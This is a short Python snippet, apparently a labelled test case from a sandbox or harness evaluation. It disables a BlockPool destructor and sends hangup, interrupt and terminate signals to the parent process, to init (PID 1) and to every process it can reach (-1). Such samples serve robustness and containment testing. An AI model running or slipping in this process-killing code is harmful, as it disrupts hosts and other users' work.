# tries: Tries to end everything that it can send a signal to.
# base: wrong
# verdict: less

import os
BlockPool.__del__ = lambda self: None
for target in (os.getppid(), 1, -1):
    for number in (1, 2, 15):
        try: os.kill(target, number)
        except OSError: pass
